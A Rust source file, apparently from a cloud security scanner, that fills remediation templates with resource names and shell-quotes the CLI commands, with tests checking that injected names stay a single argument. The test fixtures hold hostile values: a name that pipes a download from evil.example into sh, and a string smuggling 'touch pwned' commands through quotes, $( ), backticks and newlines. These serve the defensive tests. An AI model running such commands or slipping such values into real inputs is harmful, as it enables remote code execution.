//! A check's remediation text made concrete for one resource. The text is prose (with a console
//! path) up to `CLI: `, then shell commands joined by `&&`. Values from the account go into the
//! prose as they are; in the commands every word is shell-quoted when it needs to be, so a
//! resource named `x; curl … | sh` stays one argument of the command a reader pastes.

use std::borrow::Cow;

/// Where the commands start in a remediation text.
pub const COMMANDS: &str = "CLI: ";

/// Words of a command that are shell syntax, never quoted.
const OPERATORS: &[&str] = &["&&", "||", "|", ">"];

/// `template` with `{id}` and `{region}` filled in for one resource.
pub fn fill(template: &str, id: &str, region: &str) -> String {
    let substitute = |text: &str| text.replace("{id}", id).replace("{region}", region);
    let Some((prose, commands)) = template.split_once(COMMANDS) else {
        return substitute(template);
    };
    let words: Vec<String> = commands
        .split(' ')
        .filter(|w| !w.is_empty())
        .map(|word| {
            if OPERATORS.contains(&word) {
                word.to_string()
            } else {
                shell_quote(&substitute(word)).into_owned()
            }
        })
        .collect();
    format!("{}{COMMANDS}{}", substitute(prose), words.join(" "))
}

/// `word` as one POSIX shell word: unchanged when it holds only characters no shell treats
/// specially, else in single quotes (a quote inside becomes `'\''`).
pub fn shell_quote(word: &str) -> Cow<'_, str> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        Cow::Borrowed(word)
    } else {
        Cow::Owned(format!("'{}'", word.replace('\'', r"'\''")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_words_stay_bare_and_the_rest_is_single_quoted() {
        assert_eq!(shell_quote("i-0abc"), "i-0abc");
        assert_eq!(shell_quote("arn:aws:s3:::b/k.txt"), "arn:aws:s3:::b/k.txt");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(shell_quote("a b"), "'a b'");
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
        assert_eq!(shell_quote("注文"), "'注文'");
    }

    #[test]
    fn the_prose_keeps_the_name_and_the_command_quotes_it() {
        let template = "Fix {id}. Console: Alarms > {id}. CLI: aws cloudwatch describe-alarms \
                        --region {region} --alarm-names {id} && aws logs x --name {id}-final";
        let hostile = "cpu-high; curl -s https://evil.example/x | sh #";
        let filled = fill(template, hostile, "us-east-1");
        assert_eq!(
            filled,
            format!(
                "Fix {hostile}. Console: Alarms > {hostile}. CLI: aws cloudwatch describe-alarms \
                 --region us-east-1 --alarm-names '{hostile}' && aws logs x --name '{hostile}-final'"
            )
        );
    }

    /// A name that tries every way out of a shell word.
    const HOSTILE: &str =
        "x'; touch pwned1; $(touch pwned2) `touch pwned3` \"q\" | cat\nnext && touch pwned4 #";

    /// Runs `commands` as pasted into a shell; returns each aws call's arguments.
    fn run_in_shell(commands: &str) -> Vec<Vec<String>> {
        let dir = tempfile::tempdir().expect("temp dir");
        let pasted = wellscan_testkit::paste_into_shell(commands, dir.path());
        assert!(
            pasted.success && pasted.stderr.is_empty(),
            "{commands}\n{}",
            pasted.stderr
        );
        for planted in ["pwned1", "pwned2", "pwned3", "pwned4"] {
            assert!(
                !dir.path().join(planted).exists(),
                "{planted} ran: {commands}"
            );
        }
        pasted.aws_calls
    }

    #[test]
    fn every_checks_commands_keep_a_hostile_name_one_argument_of_aws_alone() {
        for check in crate::catalogue() {
            let template = check.meta.remediation;
            for (id, region) in [(HOSTILE, "us-east-1"), ("i-1", HOSTILE)] {
                let filled = fill(template, id, region);
                let (_, commands) = filled.split_once(COMMANDS).expect("commands");
                let calls = run_in_shell(commands);
                let expected = commands.matches("aws ").count();
                assert_eq!(calls.len(), expected, "{}: {commands}", check.meta.id);
                for (field, value) in [("{id}", id), ("{region}", region)] {
                    let args = calls.iter().flatten();
                    if template
                        .split_once(COMMANDS)
                        .is_some_and(|(_, c)| c.contains(field))
                    {
                        assert!(
                            args.clone().any(|a| a.contains(value)),
                            "{}: {field} is not one argument: {calls:?}",
                            check.meta.id
                        );
                    }
                }
            }
        }
    }
}
